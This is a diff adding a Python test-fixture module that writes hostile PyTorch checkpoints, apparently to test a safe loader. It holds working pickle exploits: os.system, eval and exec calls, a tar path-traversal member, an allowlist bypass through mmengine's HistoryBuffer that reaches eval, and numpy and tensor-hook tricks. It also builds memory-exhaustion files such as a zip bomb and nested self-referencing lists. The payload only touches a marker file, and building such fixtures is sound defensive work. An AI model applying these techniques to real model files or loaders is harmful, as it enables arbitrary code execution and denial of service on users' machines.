@@ -1,0 +1,349 @@
+"""Checkpoints that want to run code, reach for objects, or take all the memory.
+
+Each is a function of the path to write and of a mark: a file that is there afterwards if
+code of the checkpoint was run.
+"""
+
+import builtins
+import functools
+import io
+import operator
+import os
+import pickle
+import struct
+import tarfile
+import zipfile
+from collections import OrderedDict
+from collections.abc import Callable
+from pathlib import Path
+
+import numpy as np
+import torch
+
+_HISTORY = 'mmengine.logging.history_buffer HistoryBuffer'
+
+
+class Call:
+    """Pickles to a call.
+
+    Args:
+        function (Callable): What to call.
+        arguments: With what.
+    """
+
+    def __init__(self, function: Callable, *arguments) -> None:
+        self.call = function, arguments
+
+    def __reduce__(self):
+        return self.call
+
+
+def save_program(program: bytes, path: Path, numbers: dict[str, bytes] | None = None,
+                 compression: int = zipfile.ZIP_STORED) -> None:
+    """Writes a pickle as the content of a checkpoint in torch's ZIP format.
+
+    Args:
+        program (bytes): The pickle.
+        path (Path): Where to.
+        numbers (dict[str, bytes], optional): Records of tensors, by key.
+        compression (int): Of all records.
+    """
+    with zipfile.ZipFile(path, 'w', compression) as archive:
+        archive.writestr('archive/data.pkl', program)
+        archive.writestr('archive/version', '3\n')
+        for key, content in (numbers or {}).items():
+            archive.writestr(f'archive/data/{key}', content)
+
+
+class Program:
+    """Writes a pickle operation by operation, for what no object pickles to."""
+
+    def __init__(self) -> None:
+        self.text = b'\x80\x02'
+        self.kept = 0
+
+    def add(self, *parts: bytes | str) -> 'Program':
+        """Appends operations; a text is a name to load: ``'module name'``."""
+        for part in parts:
+            self.text += part if isinstance(part, bytes) else (
+                f'c{part}\n'.replace(' ', '\n', 1).encode())
+        return self
+
+    def string(self, text: str) -> 'Program':
+        """Pushes a text."""
+        data = text.encode()
+        return self.add(b'X' + struct.pack('<I', len(data)) + data)
+
+    def keep(self) -> bytes:
+        """Remembers what is on top; returns the operation that fetches it."""
+        place, self.kept = bytes([self.kept]), self.kept + 1
+        self.add(b'q' + place)
+        return b'h' + place
+
+    def end(self) -> bytes:
+        """Returns the whole pickle."""
+        return self.text + b'.'
+
+
+# ---- Calls of what runs code ------------------------------------------------------------
+
+
+def _touch(mark: Path) -> str:
+    return f'touch "{mark}"'
+
+
+def _open_mark(mark: Path) -> str:
+    return f'open({str(mark)!r}, "w")'
+
+
+def _saved(call: Callable[[Path], object], zip_format: bool = True):
+    def write(path: Path, mark: Path) -> None:
+        torch.save({'state_dict': OrderedDict(weight=torch.zeros(1)), 'meta': call(mark)},
+                   path, _use_new_zipfile_serialization=zip_format)
+    return write
+
+
+def _raw(protocol: int):
+    def write(path: Path, mark: Path) -> None:
+        path.write_bytes(pickle.dumps(Call(os.system, _touch(mark)), protocol))
+    return write
+
+
+def _tar(path: Path, mark: Path) -> None:
+    """The format of torch before 0.2, whose reader unpickles three files of the archive."""
+    with tarfile.open(path, 'w') as archive:
+        for name in ('storages', 'tensors', 'pickle', '../../escaped'):
+            content = pickle.dumps(Call(os.system, _touch(mark)), protocol=2)
+            member = tarfile.TarInfo(name)
+            member.size = len(content)
+            archive.addfile(member, io.BytesIO(content))
+
+
+def _script(path: Path, mark: Path) -> None:
+    torch.jit.script(torch.nn.Linear(1, 1)).save(str(path))
+
+
+# ---- What allowed names can be made to do ------------------------------------------------
+
+
+def _poisoned_history(path: Path, mark: Path) -> None:
+    """Runs code through nothing but the names that mmengine's checkpoints have.
+
+    HistoryBuffer keeps what it is told among the statistics of its class, so that the
+    stand-in for getattr hands out ``__getattribute__``; torch's own rebuilding of tensors
+    calls whatever function it is given.
+    """
+    program = Program().add(b'(', _HISTORY)
+    history = program.keep()
+    program.add(b')\x81}').string('statistics_methods').add(b'}(')
+    for name in ('__getattribute__', '__class__'):
+        program.string(name).add(b'N')
+    program.add(b'usb')
+
+    def of_history(name: str) -> bytes:
+        program.add('__builtin__ getattr', history).string(name).add(b'\x86R')
+        return program.keep()
+
+    def call(function: bytes, kind: bytes, *arguments) -> bytes:
+        program.add('torch._tensor _rebuild_from_type_v2', b'(', function, kind, b'(')
+        for argument in arguments:
+            program.string(argument) if isinstance(argument, str) else program.add(argument)
+        program.add(b't}tR')
+        return program.keep()
+
+    get, type_ = of_history('__getattribute__'), of_history('__class__')
+    mean = of_history('mean')
+    program.add(b'}')
+    table = program.keep()
+    dict_ = call(get, type_, table, '__class__')
+    program.add('_codecs encode')
+    encode = program.keep()
+    builtin = call(get, type_, encode, '__class__')
+    names = call(get, dict_, mean, '__globals__')
+    builtins_ = call(call(get, builtin, names, '__getitem__'), dict_, '__builtins__')
+    evaluate = call(call(get, builtin, builtins_, '__getitem__'), builtin, 'eval')
+    program.add(b'K\x01')
+    one = program.keep()
+    call(evaluate, call(get, type_, one, '__class__'),
+         f'__import__("os").system({_touch(mark)!r})')
+    save_program(program.add(b't').end(), path)
+
+
+def _history_attributes(path: Path, mark: Path) -> None:
+    """A history whose method ``mean`` is another function."""
+    program = Program().add(b'}').string('message_hub').add(_HISTORY, b')\x81}')
+    program.string('mean').add('torch._utils _rebuild_parameter', b'sbs')
+    save_program(program.end(), path)
+
+
+def _wrapped_dict(path: Path, mark: Path) -> None:
+    """A state dict whose method ``items`` is another function."""
+    program = Program().add(b'}').string('state_dict')
+    program.add('collections OrderedDict', b')R}').string('items')
+    program.add('_codecs encode', b'sbs')
+    save_program(program.end(), path)
+
+
+def _array_of_pointers(path: Path, mark: Path) -> None:
+    """An array of objects, which lie where the numbers of the file say."""
+    program = Program().add(b'}').string('state_dict').add('numpy ndarray', b'K\x01\x85')
+    program.string('O').add('__builtin__ bytearray', b'K\x08\x85R\x87Rs')
+    save_program(program.end(), path)
+
+
+def _array_of_objects(path: Path, mark: Path) -> None:
+    _saved(lambda mark: np.array([Call(os.system, _touch(mark))], object))(path, mark)
+
+
+def _type_of_pointers(path: Path, mark: Path) -> None:
+    """A type of numbers whose state says that they are objects."""
+    program = Program().add(b'}').string('state_dict').add('numpy dtype').string('>f8')
+    program.add(b'\x89\x88\x87R(K\x03').string('|')
+    program.add(b'NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3ftbs')
+    save_program(program.end(), path)
+
+
+def _scalar_of_objects(path: Path, mark: Path) -> None:
+    """A number of numpy's of the type of objects, with a pickle as its content."""
+    program = Program().add(b'}').string('state_dict')
+    program.add('numpy.core.multiarray scalar', 'numpy dtype').string('O')
+    program.add(b'\x89\x88\x87R').string(pickle.dumps(
+        Call(os.system, _touch(mark)), protocol=0).decode('ascii'))
+    save_program(program.add(b'\x86Rs').end(), path)
+
+
+def _hooks(path: Path, mark: Path) -> None:
+    """A tensor with a hook, put among its hooks when the tensor was made already."""
+    program = Program().add(b'(', 'collections OrderedDict', b')R')
+    hooks = program.keep()
+    program.add('torch._utils _rebuild_tensor_v2', b'((').string('storage')
+    program.add('torch FloatStorage').string('0').string('cpu')
+    program.add(b'K\x01tQK\x00K\x01\x85K\x01\x85\x89', hooks, b'tR', hooks)
+    program.string('0').add('_codecs encode', b'st')
+    save_program(program.end(), path, {'0': bytes(4)})
+
+
+def _named(name: str):
+    """A call of a function by name, without arguments."""
+    def write(path: Path, mark: Path) -> None:
+        save_program(Program().add(b'}').string('meta').add(name, b')Rs').end(), path)
+    return write
+
+
+# ---- What takes memory or time -----------------------------------------------------------
+
+
+def _tensor(count: int, shape: bytes, stride: bytes) -> bytes:
+    program = Program().add(b'}').string('state_dict')
+    program.add('torch._utils _rebuild_tensor_v2', b'((').string('storage')
+    program.add('torch FloatStorage').string('0').string('cpu')
+    program.add(b'\x8a\x08' + struct.pack('<q', count) + b'tQK\x00', shape, stride)
+    return program.add(b'\x89', 'collections OrderedDict', b')RtRs').end()
+
+
+def _long(number: int) -> bytes:
+    return b'\x8a\x08' + struct.pack('<q', number) + b'\x85'
+
+
+def _claimed_storage(path: Path, mark: Path) -> None:
+    """Numbers of four terabytes, of which the file has four bytes."""
+    save_program(_tensor(2**40, _long(1), _long(1)), path, {'0': bytes(4)})
+
+
+def _claimed_tensor(path: Path, mark: Path) -> None:
+    """A tensor of four terabytes on numbers of four bytes, which torch would enlarge."""
+    save_program(_tensor(1, _long(2**40), _long(1)), path, {'0': bytes(4)})
+
+
+def _folded_tensor(path: Path, mark: Path) -> None:
+    """A tensor of four terabytes, every number of which is the same one."""
+    save_program(_tensor(1, _long(2**40), _long(0)), path, {'0': bytes(4)})
+
+
+def _old_claimed_storage(path: Path, mark: Path) -> None:
+    """As above, in the format without an archive."""
+    start = io.BytesIO()
+    torch.save({'state_dict': torch.zeros(3)}, start, _use_new_zipfile_serialization=False)
+    data = start.getvalue()
+    place = data.index(b'q\x08K\x03') if b'q\x08K\x03' in data else data.rindex(b'K\x03N')
+    place = data.index(b'K\x03', place)
+    path.write_bytes(data[:place] + b'\x8a\x08' + struct.pack('<q', 2**40)
+                     + data[place + 2:])
+
+
+def _bomb(path: Path, mark: Path) -> None:
+    """A record of a kilobyte that unfolds to a thousand times as much, and more of them."""
+    save_program(pickle.dumps({'state_dict': {}}, 2), path, {'0': bytes(8 << 20)},
+                 zipfile.ZIP_DEFLATED)
+
+
+def _laughs(path: Path, mark: Path) -> None:
+    """Lists of ten references to a list of ten references, twenty deep."""
+    program = Program().add(b'}').string('meta').add(b'(]')
+    for _ in range(20):
+        inner = program.keep()
+        program.add(b'](', inner * 10, b'e')
+    save_program(program.add(b'ts').end(), path)
+
+
+def _slow_key(path: Path, mark: Path) -> None:
+    """A key whose hash is that of two tuples of two tuples of ..., sixty deep."""
+    program = Program().add(b'})')
+    for _ in range(60):
+        program.add(program.keep(), b'\x86')
+    save_program(program.add(b'Ns').end(), path)
+
+
+def _deep(path: Path, mark: Path) -> None:
+    save_program(Program().add(b'}').string('meta').add(b']' * 10_000, b'a' * 9_999, b's'
+                                                        ).end(), path)
+
+
+def _loop(path: Path, mark: Path) -> None:
+    program = Program().add(b']')
+    save_program(program.add(program.keep(), b'a').end(), path)
+
+
+# Written out one by one: the table is what is tested.
+RUN_CODE = {
+    'os.system': _saved(lambda mark: Call(os.system, _touch(mark))),
+    'os.system, old format': _saved(lambda mark: Call(os.system, _touch(mark)), False),
+    'os.system, raw text pickle': _raw(0),
+    'os.system, raw pickle': _raw(2),
+    'os.system, raw new pickle': _raw(5),
+    'os.system, tar format': _tar,
+    'builtins.eval': _saved(lambda mark: Call(eval, _open_mark(mark))),
+    'builtins.exec': _saved(lambda mark: Call(exec, _open_mark(mark)), False),
+    'builtins.getattr': _saved(lambda mark: Call(getattr, OrderedDict, '__init__')),
+    'builtins.__import__': _saved(lambda mark: Call(builtins.__import__, 'antigravity')),
+    'operator.attrgetter': _saved(lambda mark: Call(operator.attrgetter, '__class__')),
+    'operator.methodcaller': _saved(lambda mark: Call(operator.methodcaller, 'kill')),
+    'functools.partial': _saved(lambda mark: functools.partial(os.system, _touch(mark))),
+    'torch.hub': _saved(lambda mark: Call(torch.hub.load, 'a/b', 'c')),
+    'torch._C': _named('torch._C _initExtension'),
+    'torch.serialization': _named('torch.serialization load'),
+    'subprocess.Popen': _named('subprocess Popen'),
+    'TorchScript': _script,
+    'poisoned HistoryBuffer': _poisoned_history,
+    'attributes of HistoryBuffer': _history_attributes,
+    'attributes of a state dict': _wrapped_dict,
+    'array of pointers': _array_of_pointers,
+    'array of objects': _array_of_objects,
+    'type of pointers': _type_of_pointers,
+    'number of objects': _scalar_of_objects,
+    'hooks of a tensor': _hooks,
+}
+
+TAKE_ALL = {
+    'claimed storage': _claimed_storage,
+    'claimed storage, old format': _old_claimed_storage,
+    'claimed tensor': _claimed_tensor,
+    'folded tensor': _folded_tensor,
+    'compressed records': _bomb,
+    'shared lists': _laughs,
+    'slow key': _slow_key,
+    'deep lists': _deep,
+    'a list that holds itself': _loop,
+}
+
+HOSTILE = {**RUN_CODE, **TAKE_ALL}
